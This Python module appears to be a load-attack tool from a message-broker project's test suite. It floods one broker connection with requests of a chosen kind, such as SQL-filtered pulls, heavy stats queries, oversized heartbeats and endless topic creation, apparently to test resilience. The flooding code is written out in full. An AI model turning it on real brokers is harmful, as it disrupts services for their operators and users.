"""An attacker with one connection, a process of its own: ``hostile_load KIND HOST PORT SECONDS``.

It keeps the connection full of requests of one kind, reads the answers and drops them. It prints "attacking" when the
first answer has come (one-way requests: when they are sent).
"""

from __future__ import annotations

import itertools
import json
import selectors
import socket
import sys
import time
from collections.abc import Callable, Iterator

from mqspark.protocol.codes import RequestCode
from mqspark.protocol.command import encode_request

WIDE = "Wide"
TOPIC_QUEUES = 8_192

READ_BYTES = 1 << 20
AT_ONCE = 512
"""Requests that are written together."""

_PULL = {
    "consumerGroup": "CG", "topic": "T", "queueId": "0", "queueOffset": "0", "maxMsgNums": "32", "sysFlag": "4",
    "commitOffset": "0", "suspendTimeoutMillis": "0", "subscription": "*", "subVersion": "0",
}  # fmt: skip
_POP = {
    "consumerGroup": "CG", "topic": "T", "queueId": "-1", "maxMsgNums": "32", "invisibleTime": "10000",
    "pollTime": "0", "bornTime": "0", "initMode": "0", "expType": "TAG", "exp": "*", "order": "false",
}  # fmt: skip
_CREATE = {
    "defaultTopic": "TBW102", "readQueueNums": "4", "writeQueueNums": "4", "perm": "6",
    "topicFilterType": "SINGLE_TAG", "topicSysFlag": "0", "order": "false",
}  # fmt: skip
_QUERY = {"topic": "T", "key": "key", "maxNum": "64", "beginTimestamp": "0", "endTimestamp": str(2**62)}

Requests = Iterator[bytes]


def _same(
    code: int, header: dict[str, str], body: bytes = b"", *, oneway: bool = False
) -> Callable[[], Requests]:
    return lambda: (encode_request(code, n, header, body, oneway=oneway) for n in itertools.count())


def _heartbeats() -> Requests:
    for n in itertools.count():
        producers = [{"groupName": f"p{n}-{number}"} for number in range(5_000)]
        body = json.dumps(
            {"clientID": "hostile", "producerDataSet": producers, "consumerDataSet": []}
        ).encode()
        yield encode_request(RequestCode.HEART_BEAT, n, {}, body)


def _new_topics() -> Requests:
    for n in itertools.count():
        yield encode_request(RequestCode.UPDATE_AND_CREATE_TOPIC, n, {**_CREATE, "topic": f"hostile-{n}"})


KINDS: dict[str, Callable[[], Requests]] = {
    "sql-pulls": _same(
        RequestCode.PULL_MESSAGE, {**_PULL, "subscription": "a = '-1'", "expressionType": "SQL92"}
    ),
    "topic-stats": _same(RequestCode.GET_TOPIC_STATS_INFO, {"topic": WIDE}),
    "consume-stats": _same(RequestCode.GET_CONSUME_STATS, {"consumerGroup": "CG", "topic": WIDE}),
    "unknown": _same(9_999, {}),
    "one-way": _same(9_999, {}, oneway=True),
    "heartbeats": _heartbeats,
    "pulls": _same(RequestCode.PULL_MESSAGE, _PULL),
    "queries": _same(RequestCode.QUERY_MESSAGE, _QUERY),
    "pops": _same(RequestCode.POP_MESSAGE, _POP),
    "new-topics": _new_topics,
    "topic-configs": _same(RequestCode.GET_ALL_TOPIC_CONFIG, {}),
}


def attack(kind: str, host: str, port: int, seconds: float) -> None:
    sock = socket.create_connection((host, port), timeout=30)
    sock.setblocking(False)
    requests = KINDS[kind]()
    at_once = 8 if kind == "heartbeats" else AT_ONCE
    unsent = memoryview(b"")
    told = False
    end = time.monotonic() + seconds
    with selectors.DefaultSelector() as selector:
        selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        while time.monotonic() < end:
            for _, events in selector.select(1.0):
                if events & selectors.EVENT_READ and not sock.recv(READ_BYTES):
                    raise EOFError("the broker closed the connection")
                if events & selectors.EVENT_WRITE:
                    if not unsent:
                        unsent = memoryview(b"".join(itertools.islice(requests, at_once)))
                    unsent = unsent[sock.send(unsent) :]
                if not told and (kind == "one-way" or events & selectors.EVENT_READ):
                    told = True
                    print("attacking", flush=True)


if __name__ == "__main__":
    attack(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
